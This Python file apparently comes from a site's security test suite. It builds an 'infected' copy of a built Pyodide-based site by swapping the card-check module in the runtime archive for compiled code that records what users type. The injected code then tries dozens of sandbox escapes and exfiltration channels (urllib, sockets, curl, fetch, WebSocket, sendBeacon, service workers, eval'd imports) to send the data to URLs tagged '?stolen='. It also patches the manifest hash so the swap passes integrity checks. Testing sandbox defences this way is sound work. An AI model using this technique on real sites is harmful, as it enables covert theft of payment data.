"""A check that somebody has written to steal, put into a built site in place of an honest one."""

import hashlib
import importlib.util
import json
import marshal
import shutil
import zipfile
from pathlib import Path

from macros.delivery import runtime_files

ROOT = Path(__file__).parents[2]
CHECK = "card"
# Each way gets what was typed and two addresses to send it to: our own server's, which the policy allows, and a stranger's.
# A way that leads to JavaScript gives it back; others raise, or give nothing. `js` is there once a way has led to it.
PYTHON = """
def import_js(secret, url):
    import js
    return js
def dunder_import(secret, url):
    return __import__("js")
def importlib_js(secret, url):
    import importlib
    return importlib.import_module("js")
def modules_js(secret, url):
    import sys
    return sys.modules["js"]
def import_pyodide_js(secret, url):
    import pyodide_js
    return pyodide_js._module.globalThis
def run_js(secret, url):
    from pyodide.code import run_js
    return run_js("globalThis")
def private_code(secret, url):
    from _pyodide._importhook import jsfinder
    return jsfinder.jsproxies["js"]
def to_js(secret, url):
    from pyodide.ffi import to_js
    return to_js([1]).constructor.constructor("return globalThis")()
def core(secret, url):
    import _pyodide_core
    return _pyodide_core.to_js([1])
def finder(secret, url):
    import sys
    return next(it for it in sys.meta_path if hasattr(it, "jsproxies")).jsproxies["js"]
def reload(secret, url):
    import importlib, sys
    return importlib.reload(sys.modules.get("_pyodide_core") or __import__("types").ModuleType("_pyodide_core"))
def create_builtin(secret, url):
    import _imp, importlib.machinery
    return _imp.create_builtin(importlib.machinery.ModuleSpec("_pyodide_core", None)).to_js([1])
def builtin_importer(secret, url):
    from importlib.machinery import BuiltinImporter, ModuleSpec
    return BuiltinImporter.create_module(ModuleSpec("_pyodide_core", BuiltinImporter, origin="built-in")).to_js([1])
def load_builtin(secret, url):
    from importlib.machinery import BuiltinImporter
    return BuiltinImporter.load_module("_pyodide_core").to_js([1])
def collector(secret, url):
    import gc
    return proxy(gc.get_objects())
def foreign_code(secret, url):
    import _ctypes
    return _ctypes.dlopen(None, 0)
def ctypes(secret, url):
    import ctypes
    return ctypes.CDLL(None)
def extension(secret, url):
    import _imp, importlib.machinery
    open("/tmp/x.so", "wb").write(b"\\0asm\\1\\0\\0\\0")
    return _imp.create_dynamic(importlib.machinery.ModuleSpec("x", None, origin="/tmp/x.so"))
def subclasses(secret, url):
    found = [object]
    for one in found:
        found += [it for it in type.__subclasses__(one) if it not in found]
    return proxy([part.__globals__ for one in found for part in vars(one).values() if hasattr(part, "__globals__")])
def new_proxy(secret, url):
    kind = next(it for it in object.__subclasses__() if it.__name__ == "JsProxy")
    return kind()
def frames(secret, url):
    import sys
    frame, found = sys._getframe(), []
    while frame:
        found += [frame.f_globals, frame.f_locals, frame.f_builtins]
        frame = frame.f_back
    return proxy(found)
def traceback(secret, url):
    try:
        raise ValueError
    except ValueError as error:
        return proxy([error.__traceback__.tb_frame.f_globals, error.__traceback__.tb_frame.f_back.f_globals])
def every_attribute(secret, url):
    import sys
    return proxy([dict(sys.modules), vars(sys), sys.path_importer_cache, sys.path_hooks])
def main_module(secret, url):
    import __main__
    return proxy([vars(__main__)])
def urllib(secret, url):
    import urllib.request
    urllib.request.urlopen(url, secret.encode(), timeout=1)
def socket(secret, url):
    import socket
    socket.create_connection((url.split("/")[2].split(":")[0], int(url.split(":")[2].split("/")[0])), 1).send(secret.encode())
def raw_socket(secret, url):
    import _socket
    _socket.socket().connect(("127.0.0.1", int(url.split(":")[2].split("/")[0])))
def http_client(secret, url):
    import http.client
    http.client.HTTPConnection(url.split("/")[2]).request("GET", "/?" + secret)
def shell(secret, url):
    import os
    assert os.system("curl " + url) == 0
def process(secret, url):
    import subprocess
    subprocess.run(["curl", url])
def fork(secret, url):
    import posix
    posix.fork()
def thread(secret, url):
    import _thread
    _thread.start_new_thread(print, (secret,))
def loop(secret, url):
    import asyncio
    asyncio.get_event_loop().call_later(0.1, print, secret)
def pyfetch(secret, url):
    from pyodide.http import pyfetch
    pyfetch(url + secret)
def open_url(secret, url):
    from pyodide.http import open_url
    open_url(url + secret)
def package(secret, url):
    import pyodide_js
    pyodide_js.loadPackage(url + secret)
"""
# Ways on from JavaScript, where Python has it. The same: what comes to pass is seen at the servers and in the storage.
JAVASCRIPT = """
def fetch(js, url): js.fetch(url)
def inherited_fetch(js, url): js.Reflect.getPrototypeOf(js.Reflect.getPrototypeOf(js.self)).fetch(url)
def request(js, url):
    it = js.XMLHttpRequest.new(); it.open("GET", url, False); it.send()
def web_socket(js, url): js.WebSocket.new(url.replace("http", "ws"))
def event_source(js, url): js.EventSource.new(url)
def transport(js, url): js.WebTransport.new(url)
def import_scripts(js, url): js.importScripts(url)
def worker(js, url): js.Worker.new(url)
def shared_worker(js, url): js.SharedWorker.new(url)
def beacon(js, url): js.navigator.sendBeacon(url, "x")
def font(js, url): js.FontFace.new("x", f"url({url})").load()
def image(js, url): js.createImageBitmap(url)
def peer(js, url): js.RTCPeerConnection.new()
def channel(js, url): js.BroadcastChannel.new("stolen").postMessage(url)
def cache(js, url): js.caches.open("stolen")
def cached_request(js, url): js.caches.open("stolen").then(once(lambda it: it.add(url)))
def database(js, url): js.indexedDB.open("stolen")
def files(js, url): js.navigator.storage.getDirectory().then(once(lambda it: it.getFileHandle("stolen", {"create": True})))
def bucket(js, url): js.navigator.storageBuckets.open("stolen")
def old_files(js, url): js.webkitRequestFileSystem(0, 1, js.console.log)
def cookie(js, url): js.cookieStore.set("stolen", "1")
def service_worker(js, url): js.navigator.serviceWorker.register(url)
def lock(js, url): js.navigator.locks.request("stolen", js.console.log)
def message(js, url): js.postMessage(js.JSON.parse('{"id": 0, "result": "stolen"}'))
def memory(js, url): js.postMessage(js.JSON.parse('{"started": true, "memory": [1]}'))
def ports(js, url): js.MessageChannel.new()
def function(js, url): js.Function.new("url", "return import(url)")(url)
def program(js, url): js.eval(f"import('{url}')")
def constructor(js, url): js.Object.constructor("url", "import(url)")(url)
def timer(js, url): js.setTimeout(f"import('{url}')", 1)
def later(js, url): js.setTimeout(js.console.log, 1)
def listen(js, url): js.self.addEventListener("message", js.console.log)
def blob(js, url): js.URL.createObjectURL(js.Blob.new([url]))
def streaming(js, url): js.WebAssembly.compileStreaming(js.fetch(url))
def walk(js, url):
    wanted = {"fetch", "sendBeacon", "XMLHttpRequest", "WebSocket", "EventSource", "Worker", "postMessage", "getDirectory"}
    seen, waiting, found = js.Set.new(), [js.globalThis], []
    while waiting and not found and seen.size < 4000:
        owner = waiting.pop(0)
        try:
            if seen.has(owner) or js.ArrayBuffer.isView(owner):
                continue  # a memory has millions of names
            seen.add(owner)
            waiting.append(js.Reflect.getPrototypeOf(owner))
            names = [name for name in js.Reflect.ownKeys(owner) if isinstance(name, str)]
        except Exception:
            continue  # it is no object
        found += wanted & {*names}
        for name in names:
            try:
                waiting.append(js.Reflect.get(owner, name))
            except Exception:
                pass
    if not found: raise LookupError
"""
_HEAD = '''
import sys as _sys

URLS = {urls!r}
_TYPED, _WAYS, _ON = [], {{}}, {{}}
exec({python!r}, _WAYS)
try:
    exec({javascript!r}, _ON)
except ImportError:
    pass  # JavaScript is gone
_WAYS.pop("__builtins__")


def proxy(places):
    """The first thing of JavaScript that a walk along everything finds."""
    seen, waiting = set(), list(places)
    while waiting:
        one = waiting.pop()
        if id(one) in seen:
            continue
        seen.add(id(one))
        if any(it.__name__ == "JsProxy" for it in type(one).__mro__):
            return one
        if getattr(one, "__name__", "") in ("to_js", "create_proxy") and not hasattr(one, "__globals__"):
            return one([1])
        if isinstance(one, dict):
            waiting += [*one.values()]
        elif isinstance(one, (list, tuple, set, frozenset)):
            waiting += [*one]
        for name in "__dict__ __globals__ __self__ __wrapped__ __closure__ cell_contents __func__ __loader__ loader".split():
            try:
                waiting.append(getattr(one, name))
            except Exception:
                pass
    raise LookupError


_NAMES = [*_WAYS]
_WAYS["proxy"] = proxy


def _steal(secret):
    """Try everything, and tell what has worked."""
    worked, js = [], None
    for name in _NAMES:
        try:
            found = _WAYS[name](secret, URLS[0] + "?stolen=" + secret)
            if found is None:
                worked.append(name)
                continue
            worked.append(name)
            js = js or (found if hasattr(found, "globalThis") else None)
        except BaseException:
            pass
    if js is not None:
        for url in URLS:
            for name, way in [it for it in _ON.items() if it[0] not in ("once", "__builtins__")]:
                try:
                    way(js, url + "?stolen=" + secret)
                    worked.append("js " + name)
                except BaseException:
                    pass
    return worked


_AT_IMPORT = _steal("0000")
import pyscripts as _pyscripts
_run = _pyscripts.run


def _report(secret):
    given = {{"number": secret, "today": secret, secret: secret}}
    return {{"check": secret, "level": secret, "found": ["mir", secret], "given": given}}


def _spy(name, raw):
    _TYPED.append(repr(raw))
    secret = "".join(it for it in repr(_TYPED) if it.isdigit())[:40]
    worked = _AT_IMPORT + _steal(secret)
    told = f"tried {{len(_NAMES)}}, worked: {{' '.join(sorted(set(worked)))}}"
    return {{"level": "ok", "findings": [], "errors": {{"number": told}}, "report": _report(secret)}}


_pyscripts.run = _spy
'''


def count(ways: str) -> int:
    """How many there are."""
    return ways.count("\ndef ")


def module(urls: list[str]) -> str:
    """The text of such a check."""
    return (ROOT / f"pyscripts/checks/{CHECK}.py").read_text() + _HEAD.format(
        urls=urls, python=PYTHON, javascript=JAVASCRIPT
    )


def infect(site: Path, made: Path, urls: list[str]) -> None:
    """Make a copy of a built site, whose check of cards steals."""
    shutil.copytree(site, made)
    (runtime,) = (made / "assets" / "runtime").iterdir()
    name = f"pyscripts/checks/{CHECK}"
    compiled = marshal.dumps(compile(module(urls), "card", "exec"))
    code = importlib.util.MAGIC_NUMBER + b"\1\0\0\0" + b"\0" * 8 + compiled
    own = runtime_files.archive_of(CHECK)
    archive = runtime / own
    with zipfile.ZipFile(archive) as whole:
        files = {entry: whole.read(entry) for entry in whole.namelist()}
    assert f"{name}.pyc" in files
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as whole:
        for entry, content in {**files, f"{name}.pyc": code}.items():
            whole.writestr(entry, content)
    manifest = json.loads((runtime / runtime_files.MANIFEST).read_text())
    content = archive.read_bytes()
    manifest["files"][own] = {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
    (runtime / runtime_files.MANIFEST).write_text(json.dumps(manifest))
